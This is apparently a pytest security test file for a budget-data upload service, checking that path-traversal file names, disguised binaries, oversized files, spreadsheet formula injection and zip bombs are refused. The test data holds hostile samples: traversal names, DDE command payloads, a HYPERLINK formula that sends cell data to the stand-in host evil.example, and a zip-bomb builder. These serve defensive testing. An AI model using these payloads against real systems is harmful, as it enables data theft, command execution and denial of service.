"""Uploaded files: wrong types, huge sizes, formulas, zip bombs and path tricks are refused clearly."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from starlette.testclient import TestClient

from connectors.reading import formula_like, read_batches
from hub.core.errors import BadInput
from tests.security.conftest import Gql, Secrets

CSV_HEADER = "kode_dana,nama_dana\n"


def _upload(
    client: TestClient,
    secrets: Secrets,
    name: str,
    content: bytes,
    *,
    source: str = "funding_sources",
    who: str = "ministry",
) -> tuple[int, dict]:
    response = client.post(f"/ingest/{source}", files={"file": (name, content)}, headers=secrets.header(who))
    assert response.status_code < 500, response.text
    return response.status_code, response.json()


def _code(body: dict) -> str:
    return body["errors"][0]["extensions"]["code"]


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.csv",
        "..\\..\\boot.ini.csv",
        "evil\x00.csv",
        "/etc/passwd",
        "sub/dir.csv",
        "..",
        ".hidden.csv",
        "tab\there.csv",
        "a" * 300 + ".csv",
    ],
)
def test_path_tricks_in_names_are_refused(client: TestClient, secrets: Secrets, name: str) -> None:
    status, body = _upload(client, secrets, name, (CSV_HEADER + "1,Pendapatan\n").encode())
    assert status == 400 and _code(body) == "BAD_INPUT"
    assert "file name" in body["errors"][0]["message"] or "Refused" in body["errors"][0]["message"]


def test_wrong_types_are_refused(client: TestClient, secrets: Secrets) -> None:
    for name, content in (
        ("tool.exe", b"MZ\x90\x00"),
        ("sheet.xlsx", b"%PDF-1.7 not a workbook"),
        ("data.csv", b"MZ\x90\x00\x03\x00\x00\x00binary"),
        ("empty.csv", b""),
        ("corrupt.xlsx", b"PK\x03\x04 truncated"),
    ):
        status, body = _upload(client, secrets, name, content)
        assert status == 400 and _code(body) == "BAD_INPUT", (name, body)
    status, body = _upload(client, secrets, "x.csv", b"a,b\n", source="no_such_source")
    assert status == 404 and _code(body) == "NOT_FOUND"


def test_huge_uploads_are_refused(make_client: Callable[..., TestClient], secrets: Secrets) -> None:
    client = make_client(max_upload_bytes=50_000)
    status, body = _upload(client, secrets, "big.csv", (CSV_HEADER + "1,x\n" * 20_000).encode())
    assert status == 413 and _code(body) == "LIMIT_EXCEEDED" and "50,000-byte" in body["errors"][0]["message"]
    status, body = _upload(
        client,
        secrets,
        "small.json",
        b'[{"kode_dana": "1", "nama_dana": "PENDAPATAN"}, {"kode_dana": "1.1", "nama_dana": "PAD"}]',
    )
    assert status == 200 and body["rowsLoaded"] == 2


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_formulas_in_uploaded_cells_are_refused(client: TestClient, secrets: Secrets, cell: str) -> None:
    content = json.dumps([{"kode_dana": "1", "nama_dana": "PENDAPATAN"}, {"kode_dana": "1.1", "nama_dana": cell}])
    status, body = _upload(client, secrets, "dana.json", content.encode())
    assert status == 400 and _code(body) == "BAD_INPUT"
    assert "row 2 column 'name'" in body["errors"][0]["message"] and "formula" in body["errors"][0]["message"]


def test_formulas_in_csv_files_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "dana.csv"
    path.write_text(CSV_HEADER + '1,PENDAPATAN\n1.1,"=HYPERLINK(""http://evil.example"",""klik"")"\n')
    with pytest.raises(BadInput, match=r"dana\.csv row 3 column 'name'.*formula"):
        list(read_batches(path, {"kode_dana": "code", "nama_dana": "name"}))


def test_formula_text_in_xlsx_cells_is_refused(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["kode_dana", "nama_dana"])
    sheet.append(["1", "PENDAPATAN"])
    sheet.append(["1.1", "placeholder"])
    sheet["B3"].value, sheet["B3"].data_type = "=cmd|' /C calc'!A0", "s"  # stored as text, not a formula
    path = tmp_path / "dana.xlsx"
    workbook.save(path)
    with pytest.raises(BadInput, match=r"row 3 column 'name'.*formula"):
        list(read_batches(path, {"kode_dana": "code", "nama_dana": "name"}))


def test_plain_signs_are_data_not_formulas() -> None:
    assert not any(formula_like(value) for value in ("-", "- ", "-5", "+62 812 3456", "@", "Belanja - Modal", 5, None))
    assert all(formula_like(value) for value in ("=1", " =A1", "@SUM(A1)", "+A1!B2", "-1+cmd|x"))


def _bomb(path: Path, *, inflated: int) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * inflated)


def test_zip_bombs_are_refused_before_inflating(tmp_path: Path, client: TestClient, secrets: Secrets) -> None:
    path = tmp_path / "bomb.xlsx"
    _bomb(path, inflated=60 * 1024 * 1024)  # 60 MiB of zeros in ~60 KiB
    assert path.stat().st_size < 200_000
    with pytest.raises(BadInput, match="zip bomb"):
        list(read_batches(path, {"kode_dana": "code"}))
    status, body = _upload(client, secrets, "bomb.xlsx", path.read_bytes())
    assert status == 400 and "zip bomb" in body["errors"][0]["message"]


def test_real_workbooks_pass_the_zip_check(shared_data: Path) -> None:
    batches = list(
        read_batches(
            shared_data / "accounts" / "sumber_dana_permendagri_50.xlsx", {"Sumber Dana": "seg1", "Uraian Akun": "name"}
        )
    )
    assert sum(len(batch.frame) for batch in batches) == 300


def test_a_string_where_a_file_belongs_is_bad_input(gql: Gql) -> None:
    body = gql(
        'mutation { bulkImportLinks(file: "not-a-file") { ... on OperationError { code message } } }', "ministry"
    )
    assert body["data"]["bulkImportLinks"]["code"] == "BAD_INPUT"
    assert "multipart" in body["data"]["bulkImportLinks"]["message"]


def test_link_uploads_get_the_same_content_checks_as_ingest_uploads(gql: Gql) -> None:
    query = "mutation($file: Upload!) { bulkImportLinks(file: $file) { ... on OperationError { code message } } }"
    for content, expected in ((b"MZ\x90\x00binary", "binary content"), (b"", "empty")):
        refused = gql(query, "ministry", file=content)["data"]["bulkImportLinks"]
        assert refused["code"] == "BAD_INPUT" and expected in refused["message"], refused
